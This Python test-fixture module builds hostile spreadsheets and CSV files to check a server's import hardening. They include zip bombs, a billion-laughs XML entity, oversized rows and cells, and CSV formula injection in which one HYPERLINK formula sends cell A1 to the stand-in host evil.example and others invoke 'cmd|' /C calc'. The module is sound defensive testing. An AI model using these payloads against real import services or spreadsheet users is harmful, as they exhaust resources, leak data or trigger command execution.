"""Hostile spreadsheets, built by the tests themselves: each one an attack on the import that
was tried against the server (issue: import hardening). Small to build, costly to read naively.
"""

from __future__ import annotations

import io
import re
import struct
import zipfile
import zlib

import openpyxl

MIB = 1 << 20


def small_xlsx(rows: list[list[object]] | None = None) -> bytes:
    """A real workbook made by openpyxl: a header and a row."""
    book = openpyxl.Workbook()
    sheet = book.active
    for row in rows or [["city", "country", "year"], ["Turin", "IT", 1956]]:
        sheet.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def _members(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def _deflated_spaces(size: int) -> tuple[bytes, int]:
    """`size` spaces (a whole number of MiB) as a raw deflate stream, and their CRC-32: one
    MiB block compressed once and repeated (a full flush makes blocks independent)."""
    chunk = b" " * MIB
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = packer.compress(chunk) + packer.flush(zlib.Z_FULL_FLUSH)
    crc = 0
    for _ in range(size // MIB):
        crc = zlib.crc32(chunk, crc)
    return block * (size // MIB) + b"\x03\x00", crc


def _zip(members: list[tuple[str, int, bytes, int, int]]) -> bytes:
    """A ZIP written by hand: (name, method, packed bytes, CRC, declared unpacked size) each,
    so a test can declare what it likes."""
    out = io.BytesIO()
    central = []
    for name, method, packed, crc, size in members:
        offset = out.tell()
        raw = name.encode()
        out.write(
            struct.pack(
                "<IHHHHHIIIHH",
                0x04034B50,
                20,
                0,
                method,
                0,
                0x21,
                crc,
                len(packed),
                size,
                len(raw),
                0,
            )
        )
        out.write(raw + packed)
        central.append(
            struct.pack(
                "<IHHHHHHIIIHHHHHII",
                0x02014B50,
                20,
                20,
                0,
                method,
                0,
                0x21,
                crc,
                len(packed),
                size,
                len(raw),
                0,
                0,
                0,
                0,
                0,
                offset,
            )
            + raw
        )
    start = out.tell()
    for entry in central:
        out.write(entry)
    out.write(
        struct.pack(
            "<IHHHHIIH", 0x06054B50, 0, 0, len(central), len(central), out.tell() - start, start, 0
        )
    )
    return out.getvalue()


def _stored(members: dict[str, bytes], **replaced: tuple[bytes, int, int]) -> bytes:
    """The workbook's members deflated as usual, with `replaced` members given raw."""
    entries = []
    members = {**members, **dict.fromkeys(set(replaced) - set(members), b"")}
    for name, data in members.items():
        if name in replaced:
            packed, crc, size = replaced[name]
        else:
            packer = zlib.compressobj(6, zlib.DEFLATED, -15)
            packed, crc, size = packer.compress(data) + packer.flush(), zlib.crc32(data), len(data)
        entries.append((name, 8, packed, crc, size))
    return _zip(entries)


def xlsx_bomb(member: str = "xl/theme/theme1.xml", size: int = 1024 * MIB) -> bytes:
    """A 1 MB workbook whose `member` unpacks to `size` bytes (1 GiB by default)."""
    members = _members(small_xlsx())
    packed, crc = _deflated_spaces(size)
    return _stored(members, **{member: (packed, crc, size)})


def xlsx_lying_bomb(size: int = 256 * MIB) -> bytes:
    """A bomb whose directory lies: its sheet is declared 1 kB, with `size` packed inside."""
    members = _members(small_xlsx())
    packed, crc = _deflated_spaces(size)
    return _stored(members, **{"xl/worksheets/sheet1.xml": (packed, crc, 1024)})


def xlsx_far_row(row: int = 2_000_000_000) -> bytes:
    """1.6 kB: a header, then one row at line `row` (and no <dimension> to say so)."""
    members = _members(small_xlsx())
    sheet = members["xl/worksheets/sheet1.xml"].decode()
    sheet = re.sub(r"<dimension[^>]*/>", "", sheet)
    sheet = sheet.replace('r="2"', f'r="{row}"')
    sheet = re.sub(r'r="([A-Z]+)2"', lambda m: f'r="{m.group(1)}{row}"', sheet)
    members["xl/worksheets/sheet1.xml"] = sheet.encode()
    return _stored(members)


def xlsx_billion_laughs() -> bytes:
    """A sheet whose one cell is an entity expanding to a billion 'lol's."""
    members = _members(small_xlsx([["city"], ["Rome"]]))
    laughs = "".join(f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">' for i in range(1, 10))
    sheet = members["xl/worksheets/sheet1.xml"].decode()
    sheet = sheet.replace("<t>Rome</t>", "<t>&lol9;</t>")
    members["xl/worksheets/sheet1.xml"] = (
        f'<?xml version="1.0"?><!DOCTYPE worksheet [<!ENTITY lol0 "lol">{laughs}]>{sheet}'
    ).encode()
    return _stored(members)


def xlsx_repeated_long_string(columns: int = 25, rows: int = 120, length: int = 9_000) -> bytes:
    """One shared string of `length` characters in every cell: 27 million characters of
    text from a workbook of a few kB, every part packed like an ordinary workbook."""
    members = _members(small_xlsx([["city"]]))
    cells = "".join('<c t="s"><v>0</v></c>' for _ in range(columns))
    head = "".join(f'<c t="inlineStr"><is><t>c{i}</t></is></c>' for i in range(columns))
    data = f'<row r="1">{head}</row>' + "".join(
        f'<row r="{r}">{cells}</row>' for r in range(2, rows + 2)
    )
    sheet = members["xl/worksheets/sheet1.xml"].decode()
    sheet = re.sub(r"<dimension[^>]*/>", "", sheet)
    members["xl/worksheets/sheet1.xml"] = re.sub(
        r"<sheetData>.*</sheetData>", f"<sheetData>{data}</sheetData>", sheet
    ).encode()
    members["xl/sharedStrings.xml"] = (
        '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" '
        f'uniqueCount="1"><si><t>{"x" * length}</t></si></sst>'
    ).encode()
    types = members["[Content_Types].xml"].decode()
    members["[Content_Types].xml"] = types.replace(
        "</Types>",
        '<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
        'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>',
    ).encode()
    rels = members["xl/_rels/workbook.xml.rels"].decode()
    members["xl/_rels/workbook.xml.rels"] = rels.replace(
        "</Relationships>",
        '<Relationship Id="rIdStrings" Type="http://schemas.openxmlformats.org/'
        'officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/>'
        "</Relationships>",
    ).encode()
    return _stored(members)


def misspelt_us_csv(rows: int = 10_000) -> bytes:
    """`rows` US city names with two letters swapped (Sprnigfield…): none in the gazetteer."""
    from citylinks.geo.gazetteer import _index

    names = sorted(
        {p.name for places in _index(5000).values() for p in places if p.country_code == "US"}
    )
    lines = ["city,country,year"]
    for i in range(rows):
        name = names[i % len(names)]
        if len(name) > 4:
            name = name[:2] + name[3] + name[2] + name[4:]
        lines.append(f'"{name}{"" if i < len(names) else i}",US,1990')
    return ("\n".join(lines) + "\n").encode()


def wide_header_csv(columns: int = 5_000_000) -> bytes:
    """A header of `columns` empty-named columns after 'city', then one row."""
    return b"city" + b"," * (columns - 1) + b"x\nRome\n"


def long_cell_csv(length: int = 130_000) -> bytes:
    """A cell of `length` characters on line 3, rows before and after it."""
    return (
        f"city,country,year,notes\nTurin,IT,1956,\nLyon,FR,1960,{'x' * length}\nMadrid,ES,1990,\n"
    ).encode()


def late_nul_csv() -> bytes:
    """NUL bytes after the first 20,000 bytes: past the sniffing of a naive reader."""
    rows = [f"City{i},IT,1990" for i in range(1, 1500)]
    return ("city,country,year\n" + "\n".join(rows) + "\nRo\x00me,IT,1991\n").encode()


def long_header_csv(length: int = 5 * MIB - 100) -> bytes:
    """A header line of one 5 MB cell."""
    return b"c" * length + b"\nRome\n"


def formula_csv() -> bytes:
    """Cells a spreadsheet would run: in rows that are rejected and rows that are kept."""
    return (
        b"city,country,year,notes\n"
        b'=HYPERLINK("http://evil.example/?x="&A1;"click"),IT,1956,\n'
        b"Turin,IT,1956,+cmd|' /C calc'!A0\n"
        b"Lyon,FR,19x0,@SUM(1+1)*cmd|' /C calc'!A0\n"
        b"Madrid,ES,1990,-2+3\n"
    )


def xlsx_with_sheet(sheet_data: str, dimension: str | None = None) -> bytes:
    """A real workbook whose first sheet's <sheetData> is `sheet_data` (cells written as
    `<c r="A1" t="inlineStr"><is><t>…</t></is></c>`), with the <dimension> given or none."""
    members = _members(small_xlsx())
    sheet = members["xl/worksheets/sheet1.xml"].decode()
    sheet = re.sub(
        r"<dimension[^>]*/>", f'<dimension ref="{dimension}" />' if dimension else "", sheet
    )
    sheet = re.sub(r"<sheetData>.*</sheetData>", f"<sheetData>{sheet_data}</sheetData>", sheet)
    members["xl/worksheets/sheet1.xml"] = sheet.encode()
    return _stored(members)


def inline_row(number: int, values: dict[str, str]) -> str:
    """One <row> of inline-string cells, {"A": "city", "GS": "x"}."""
    cells = "".join(
        f'<c r="{column}{number}" t="inlineStr"><is><t>{text}</t></is></c>'
        for column, text in values.items()
    )
    return f'<row r="{number}">{cells}</row>'


def xlsx_many_parts(parts: int = 1_001) -> bytes:
    """A workbook with `parts` extra members in its ZIP."""
    members = _members(small_xlsx())
    members.update({f"xl/media/image{i}.bin": b"x" for i in range(parts)})
    return _stored(members)


def xlsx_big_unpacked(members_of_1mb: int = 60) -> bytes:
    """Members just under 1 MB each (below the ratio check), 60 MB together."""
    members = _members(small_xlsx())
    members.update({f"customXml/item{i}.xml": b" " * (MIB - 1) for i in range(members_of_1mb)})
    return _stored(members)
